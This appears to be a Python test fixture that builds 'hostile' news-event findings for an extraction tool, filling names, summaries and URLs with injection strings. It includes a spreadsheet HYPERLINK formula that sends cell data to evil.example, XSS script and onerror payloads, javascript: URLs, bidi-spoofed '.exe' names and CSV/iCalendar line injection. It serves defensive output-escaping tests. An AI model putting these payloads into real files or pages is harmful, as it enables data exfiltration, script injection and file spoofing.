"""Findings whose every word tries to break the file that it is written to; the outlets are invented."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from typing import Any

from builders import article, event, mention
from recoupe.records.actors import Actor, ActorMention, Place, PlaceMention, Role
from recoupe.records.events import Disagreement, DisagreementValue, Event, EventMention, Figure, HistoryStep, Story
from recoupe.records.pages import Article, Refusal
from recoupe.records.readings import Findings, Mentions, Reading
from recoupe.records.spans import Span, Words
from recoupe.records.statements import Speaker, Statement
from recoupe.records.times import Dating, EventDate

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
BIDI = "\u202egpj.exe\u202c\u2066\u200f\x1b[31m\x07"
LINES = 'une; ligne, "citée"\r\nBEGIN:VEVENT\nEND\\tout | [x](javascript:1) \u2028 ![i](//h)'
TEXT = f"{FORMULA}\n\n@Norvanie a frappé {SCRIPT} {BIDI} {LINES}. Fin.\n"
DAY = date(2016, 5, 12)
AIMED = ("p1", "p2")


def page(**given: Any) -> Article:
    """The hostile article."""
    dated = Dating(earliest=DAY, latest=DAY, basis="markup")
    known = {"published": dated, "outlet": f"+{SCRIPT}", "url": "javascript:alert(3)", "title": FORMULA}
    return article(TEXT, f"-pages/{SCRIPT}.txt", **{**known, **given})


def told(of: Article, **given: Any) -> EventMention:
    """The mention: its sentence is the whole body."""
    start = of.text.index("@")
    dead = Figure(start=start, end=start + 1, text="@", what="killed", value=87, relation="exactly")
    more = Figure(start=start, end=start + 1, text="@", what="killed", value=60, relation="more than")
    known: dict[str, Any] = {
        "sentence": Span(start=start, end=len(of.text.rstrip())),
        "type": "ASSAULT",
        "status": "planned",
        "modes": ("aerial",),
        "actors": AIMED,
        "recipients": ("p3",),
        "figures": (dead, more),
        "contexts": ("military",),
        "where": "l1",
        "according_to": ("s1",),
    }
    return mention(of, "a frappé", **{**known, **given})


def actor(key: str, name: str) -> Actor:
    """An actor of the invented country Norvanie."""
    role = Role(title="ministre", start=date(2015, 1, 1), end=date(2017, 1, 1))
    late = Role(title="retraité", start=date(2018, 1, 1))
    return Actor(
        id=key, name=name, kind="person", country="NRV", sectors=("GOV", "MIL"), aliases=(FORMULA,), roles=(role, late)
    )


def happening(of: EventMention, number: int, **given: Any) -> Event:
    """An event of its own id, dated to the day unless told otherwise."""
    known: dict[str, Any] = {
        "id": f"e{number}",
        "summary": f"{FORMULA} {SCRIPT} {BIDI}\n{LINES}",
        "modes": ("aerial",),
        "actors": AIMED,
        "recipients": ("p3",),
        "date": EventDate(earliest=DAY, latest=DAY, basis="stated"),
        "place": Place(name=f"=Ville {SCRIPT}", country="NRV", precision="city", lat=36.2, lon=37.15),
        "rank": number,
    }
    return event(of, **{**known, **given})


def hostile() -> Findings:
    """One page; events on a day in a city, in a span in a country, in a wide span, without day or place."""
    of = page()
    one = told(of)
    start = of.text.index("@")
    named = ActorMention(
        start=start,
        end=start + 9,
        text=of.text[start : start + 9],
        id="n1",
        article=of.id,
        kind="person",
        form="name",
        refs=("p1",),
        name="=Alpha",
        rule="t",
    )
    spot = PlaceMention(start=start, end=start + 1, text="@", id="l1", article=of.id, place=_country(), rule="t")
    words = Words(start=start, end=start + 1, text="@")
    said = Statement(
        id="s1",
        article=of.id,
        speaker=Speaker(start=start, end=start + 9, text=of.text[start : start + 9], actors=("p1",)),
        content=(Span(start=start + 10, end=start + 20),),
        form="direct",
        rule="t",
        via=(words,),
    )
    values = tuple(DisagreementValue(value=value, mentions=(one.id,), words=(SCRIPT,)) for value in ("87", "60"))
    differing = Disagreement(field="figure:killed", values=values, compatible=True)
    step = HistoryStep(event="e0", status="planned", date=None)
    events = (
        happening(one, 0, disagreements=(differing,), disputed_by=(SCRIPT,), history=(step,), origins=()),
        happening(one, 1, date=_span(DAY, date(2016, 5, 13)), place=_country(), story=Story(id="t1", label=FORMULA)),
        happening(one, 2, date=_span(date(2015, 1, 1), date(2016, 12, 31)), place=_country("region"), recipients=()),
        happening(one, 3, date=None, place=None, silent_sides=("NRV",)),
    )
    mentions = Mentions(actors=(named,), places=(spot,))
    left = Refusal(page=f"=pages/{SCRIPT}", stage="capture", reason=f"a binary file {BIDI}", mend="save it as text")
    return Findings(
        readings=(Reading(article=of, mentions=mentions, statements=(said,), events=(one,)),),
        actors=(actor("p1", "=Alpha"), actor("p2", SCRIPT), actor("p3", "@Gamma\tDelta")),
        events=events,
        copies=(),
        refusals=(left,),
    )


def with_events(*events: Event) -> Findings:
    """The hostile findings with other events."""
    return replace(hostile(), events=events)


def _span(first: date, last: date) -> EventDate:
    return EventDate(earliest=first, latest=last, basis="article")


def _country(precision: Any = "country") -> Place:
    return Place(name="Norvanie", country="NRV", precision=precision, lat=35.0, lon=38.5)
